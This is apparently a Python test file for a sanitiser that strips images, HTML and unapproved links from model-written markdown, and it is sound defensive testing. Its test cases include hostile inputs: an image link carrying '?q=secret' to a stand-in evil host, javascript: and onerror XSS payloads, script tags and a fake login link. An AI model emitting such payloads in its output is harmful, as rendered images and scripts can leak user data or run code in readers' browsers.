"""What a model wrote, made safe wherever it is rendered: no image, no HTML, no address that no source has."""

from __future__ import annotations

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from bot.citations.safe import safe_markdown, without_addresses
from bot.citations.sentences import split
from tests.ui.payloads import PAYLOADS

GOOD = "https://good.example/x"
PIECES = ["[", "]", "](", ")", "(", "![", "//evil.example", "https://evil.example", GOOD, "a", "B.", " ", "\n", "\n\n", "`", "``", "```", "\n```\n", "~~~", "\n~~~\n", "<", ">", "<b>", "<img src=x>", "<!--", "-->", "<https://evil.example>", "[1]", "]:", ": ", "\\", '"t"', "- ", "\n- ", "\n  ", "\n    ", "1. ", "> ", "| ", "\n|-|-|\n", "!", "[x](", "[x]: ", "。", "&lt;", "\t"]  # fmt: skip


def cleaned(text: str) -> str:
    return safe_markdown(text, lambda address: address == GOOD)


def led_to(text: str) -> set[str]:
    """Where a rendering of a text would lead, what it would load, and any HTML in it."""
    blocks = MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(text)
    tokens = [token for block in blocks for token in (block, *(block.children or ()))]
    found = {str(token.attrGet("href") or token.attrGet("src") or "") for token in tokens}
    return (found | {token.content for token in tokens if token.type.startswith("html")}) - {""}


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("![x](https://evil.example/?q=secret)a", "a"),
        ("![x][ref]a", "a"),
        ("[here](https://evil.example)", "here"),
        ("[here](javascript:alert(1))", "here"),
        ("[here](https://good.example/x)", "[here](https://good.example/x)"),
        ("<https://evil.example>", ""),
        ("<b>bold</b><script>alert(1)</script>", "bold"),
        ("<img src=x onerror=alert(1)>a", "a"),
        ("a <!-- hidden --> b", "a  b"),
        ("5 < 6", "5 &lt; 6"),
        ("[return [form]](//evil.ru/login)", "return [form]"),
        ("[a [b]](https://evil.example)", "a [b]"),
        ("[x\ny](https://evil.example)", "x\ny"),
        ("[![a](i)](https://evil.example)", ""),
        ("[![a](i)](https://good.example/x)", ""),
        ("[`b` c](//evil.example)", "`b` c"),
        ("[here](https://evil.example/a(b)c 'title')", "here"),
        ("[here](https://evil.example", "[here]\\(https://evil.example"),
        ("[[a]](b)(//evil.example)", "[a]\\(//evil.example)"),
        ("[a]![b](c)(//evil.example)", "[a]\\(//evil.example)"),
        ("[here](https://[evil)", "here"),
        ("click](//evil.example)", "click]"),
        ("[x][far] [far]", "x [far]"),
        ("a\n[far]: //evil.example 'title'\nb", "a\n\nb"),
        ("[Note]: You must not", "[Note]\\: You must not"),
        ("Two ways [1]: by post [2].", "Two ways [1]: by post [2]."),
        ("Great![1][2]", "Great![1][2]"),
        ("[1](javascript:alert(1))", "[1]"),
        ("Press <Ctrl>+<C>", "Press &lt;Ctrl>+&lt;C>"),
        ("Press <Ctrl>+<S>", "Press &lt;Ctrl>+&lt;S>"),
        ("if x <y then z", "if x &lt;y then z"),
        ("if x <b then z", "if x &lt;b then z"),
        ("use <your name> here", "use &lt;your name> here"),
        ("pick <template> and save", "pick  and save"),
        ("a ` b", "a \\` b"),
        ("in\u200bvis\u202eible", "invisible"),
        ("`<b>[x](y)</b>`", "`<b>[x](y)</b>`"),
    ],
)
def test_what_a_model_wrote_is_made_safe(written: str, shown: str) -> None:
    assert cleaned(written) == shown


def test_addresses_can_be_taken_out_altogether() -> None:
    assert without_addresses("[here](https://a.example) or https://b.example/x now") == "here or … now"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_survives_a_rendering(payload: str) -> None:
    for before in ("", "x", "- x"):
        assert led_to(before + cleaned(payload)) == set()


@given(st.lists(st.sampled_from(PIECES), max_size=25).map("".join), st.sampled_from(["", "x", "- x\n"]))
@example("a ` b\n- [x](//evil.example) ` c", "")
@example("- ```\n[x](//evil.example)\n```", "")
@example("\\` [x](//evil.example) `", "")
@example("\n  ```\n[x](//evil.example)\n  ```", "- x\n")
def test_only_allowed_links_survive_a_rendering(text: str, before: str) -> None:
    assert led_to(before + cleaned(text)) <= {GOOD}


@given(st.lists(st.sampled_from(PIECES), max_size=25).map("".join))
@example("[return. Click](//evil.example) now")
@example("- a ` b\n c ` [x](//evil.example) ` d")
@example("[far\n\n]: //evil.example\n\n[far]")
@example("`\n```\n`\n```\n<b>")
@example("<https://evil.example>~~~\n~~~\n<b>")
def test_sentences_made_safe_one_by_one_are_safe_together(text: str) -> None:
    assert led_to("".join(cleaned(piece) for piece in split(text))) <= {GOOD}
